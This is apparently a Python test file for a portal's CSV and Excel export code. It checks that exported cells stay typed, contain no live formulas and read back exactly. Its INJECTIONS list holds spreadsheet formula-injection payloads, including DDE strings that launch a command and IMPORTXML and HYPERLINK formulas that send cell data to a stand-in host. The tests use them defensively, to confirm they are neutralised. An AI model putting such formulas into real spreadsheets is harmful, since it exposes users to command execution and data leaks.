"""What we write: typed cells, no live formula, and files that read back exactly."""

import io
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.documents.tables.reading import Cell, open_table
from portal.documents.workbooks import Column, Sheet, write_csv, write_workbook

INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML("http://evil.example/?"&A1,"//a")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    '";=1+1',
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "%0A=1+1",
    "{=1+1}",
    'DDE("cmd";"/C calc";"x")',
    "#REF!",
    "#N/A",
    "http://evil.example/",
    "=",
    "=\u00a0",
    "_x003D_1+1",
    "1E5",
    "TRUE",
    "2024-01-01",
    "0012",
]


def workbook(sheet: Sheet) -> bytes:
    """The bytes of a workbook with one sheet."""
    out = io.BytesIO()
    write_workbook(out, [sheet], zone=ZoneInfo("Asia/Shanghai"))
    return out.getvalue()


def csv_bytes(columns: Sequence[Column], rows: Sequence[Sequence[object]]) -> bytes:
    """The bytes of a CSV file."""
    out = io.BytesIO()
    write_csv(out, columns, rows)
    return out.getvalue()


def reread(data: bytes, filename: str, folder: Path) -> list[list[Cell]]:
    """Header and rows, through our own reader."""
    path = folder / "written"
    path.write_bytes(data)
    with open_table(path, filename=filename) as table:
        return [list[Cell](table.header), *(row.cells for row in table.rows())]


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_text_becomes_a_formula_in_a_workbook(text: str) -> None:
    data = workbook(Sheet(text, [Column(text)], [[text]], heading=[text], totals=[text]))

    page = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in page.iter_rows() for cell in row if cell.value is not None]

    expected = text.replace("_x003D_", "_x005F_x003D_")
    assert [cell.value for cell in cells] == [expected] * 4
    assert {cell.data_type for cell in cells} == {"s"}
    assert b"<f>" not in b"".join(zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").split())


def test_injections_read_back_exactly_from_both_formats(tmp_path: Path) -> None:
    columns = [Column("no", "integer"), Column("text")]
    rows = [[number, text] for number, text in enumerate(INJECTIONS, start=1)]

    from_csv = reread(csv_bytes(columns, rows), "a.csv", tmp_path)
    from_workbook = reread(workbook(Sheet("a", columns, rows)), "a.xlsx", tmp_path)

    assert [row[1] for row in from_csv[1:]] == INJECTIONS
    assert [row[1] for row in from_workbook[1:]] == INJECTIONS


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_csv_text_that_could_run_gets_an_apostrophe(start: str) -> None:
    data = csv_bytes([Column(start + "head")], [[start + "1"]]).decode("utf-8-sig")

    assert data.count("'" + start) == 2


def test_csv_numbers_stay_numbers_and_dates_are_iso() -> None:
    columns = [
        Column("amount", "money"),
        Column("count", "integer"),
        Column("day", "date"),
        Column("at", "datetime"),
        Column("big", "decimal"),
    ]
    row = [Decimal("-12.50"), -3, date(2024, 2, 29), datetime(2024, 2, 29, 8, tzinfo=UTC), Decimal("1E+3")]

    data = csv_bytes(columns, [row, [None] * 5])

    assert data.startswith(b"\xef\xbb\xbfamount,count,day,at,big\r\n")
    assert data.endswith(b"-12.50,-3,2024-02-29,2024-02-29 08:00:00,1000\r\n,,,,\r\n")


def test_workbook_cells_are_typed_and_formatted() -> None:
    columns = [
        Column("PO number"),
        Column("Lines", "integer"),
        Column("Rate", "decimal"),
        Column("Total", "money"),
        Column("Yen", "money", number_format="#,##0"),
        Column("Day", "date"),
        Column("At", "datetime", width=33),
    ]
    at = datetime(2024, 12, 31, 20, 15, tzinfo=UTC)
    row = ["PO-1", 500, Decimal("0.065"), Decimal("1234.50"), Decimal(900), at, at]

    page = openpyxl.load_workbook(io.BytesIO(workbook(Sheet("a", columns, [row])))).worksheets[0]
    cells = next(iter(page.iter_rows(min_row=2)))

    assert [cell.value for cell in cells] == [
        "PO-1",
        500,
        0.065,
        1234.5,
        900,
        datetime(2025, 1, 1),
        datetime(2025, 1, 1, 4, 15),
    ]
    assert [cell.number_format for cell in cells[1:]] == [
        "#,##0",
        "#,##0.######",
        "#,##0.00",
        "#,##0",
        "yyyy-mm-dd",
        "yyyy-mm-dd hh:mm:ss",
    ]
    assert page.column_dimensions["G"].width == 33


def test_heading_header_totals_filter_and_print_set_up() -> None:
    sums: list[Decimal] = []
    columns = [Column("no"), Column("amount", "money")]

    def rows() -> list[list[object]]:
        values = [Decimal("0.10"), Decimal("0.20")]
        sums.append(sum(values, Decimal()))
        return [["a", values[0]], ["b", values[1]]]

    sheet = Sheet("Statement", columns, rows(), heading=["Supplier", "March"], totals=lambda: ["Sum", sums[0]])
    page = openpyxl.load_workbook(io.BytesIO(workbook(sheet))).worksheets[0]

    assert [[cell.value for cell in row] for row in page.iter_rows()] == [
        ["Supplier", None],
        ["March", None],
        [None, None],
        ["no", "amount"],
        ["a", 0.1],
        ["b", 0.2],
        ["Sum", 0.3],
    ]
    assert page["B7"].font.bold
    assert page.freeze_panes == "A5"
    assert page.auto_filter.ref == "A4:B6"
    assert page.print_title_rows == "$4:$4"
    assert (page.page_setup.orientation, page.page_setup.fitToWidth, page.page_setup.fitToHeight) == ("landscape", 1, 0)
    assert page.sheet_properties.pageSetUpPr is not None
    assert page.sheet_properties.pageSetUpPr.fitToPage


def test_what_excel_cannot_hold_is_kept_as_text_or_marked(tmp_path: Path) -> None:
    columns = [Column("what"), Column("value", "decimal")]
    rows: list[list[object]] = [
        ["digits", Decimal("1234567890123456.78")],
        ["old", date(1812, 9, 7)],
        ["control", "a\x00b\x1fc\ud800d\ufffe"],
        ["long", "x" * 40_000],
        ["date in a number column", date(2024, 1, 2)],
        ["number after it", Decimal("2.5")],
        ["truth", True],
    ]

    read = {row[0]: row[1] for row in reread(workbook(Sheet("a", columns, rows)), "a.xlsx", tmp_path)[1:]}

    assert read["digits"] == "1234567890123456.78"
    assert read["old"] == "1812-09-07"
    assert read["control"] == "a\ufffdb\ufffdc\ufffdd\ufffd"
    assert read["long"] == "x" * 32_766 + "…"
    assert read["date in a number column"] == date(2024, 1, 2)
    assert read["number after it"] == Decimal("2.5")
    assert read["truth"] is True


@pytest.mark.parametrize("value", [Decimal("NaN"), Decimal("Infinity")])
def test_numbers_that_are_none_are_refused(value: Decimal) -> None:
    with pytest.raises(ValueError, match="cannot show"):
        workbook(Sheet("a", [Column("a", "money")], [[value]]))


def test_floats_and_rows_of_another_width_are_refused() -> None:
    with pytest.raises(TypeError, match="float"):
        csv_bytes([Column("a", "money")], [[0.1]])
    with pytest.raises(ValueError, match="2 values for 1 columns"):
        csv_bytes([Column("a")], [["a", "b"]])


def test_sheet_names_are_made_acceptable_and_different() -> None:
    out = io.BytesIO()
    titles = ["Orders [1/2]: a*b?", "x" * 40, "X" * 40, "", "'quoted'", "对账单"]
    write_workbook(out, [Sheet(title, [Column("a")], []) for title in titles])

    names = openpyxl.load_workbook(out).sheetnames

    assert names == ["Orders  1 2   a b", "x" * 31, "X" * 27 + " (2)", "Sheet", "quoted", "对账单"]


TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00\ufffe\uffff"), max_size=40)
XML_TEXTS = TEXTS.filter(lambda text: not any(ord(char) < 32 and char not in "\t\n\r" for char in text))
NUMBERS = st.decimals(allow_nan=False, allow_infinity=False, places=4, min_value=-(10**10), max_value=10**10)
TABLES = st.lists(st.tuples(XML_TEXTS, NUMBERS), max_size=20)
MANY = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
COLUMNS = [Column("no", "integer"), Column("text"), Column("amount", "decimal")]


@MANY
@given(TABLES)
def test_workbooks_read_back_exactly(tmp_path: Path, table: list[tuple[str, Decimal]]) -> None:
    rows = [[number, text, amount] for number, (text, amount) in enumerate(table)]

    read = reread(workbook(Sheet("a", COLUMNS, rows)), "a.xlsx", tmp_path)[1:]

    assert read == [[Decimal(number), text or None, amount] for number, (text, amount) in enumerate(table)]


@MANY
@given(TABLES)
def test_csv_files_read_back_exactly(tmp_path: Path, table: list[tuple[str, Decimal]]) -> None:
    rows = [[number, text, amount] for number, (text, amount) in enumerate(table)]

    read = reread(csv_bytes(COLUMNS, rows), "a.csv", tmp_path)[1:]

    assert [row[1] for row in read] == [text or None for text, _ in table]
    assert [Decimal(str(row[2])) for row in read] == [amount for _, amount in table]
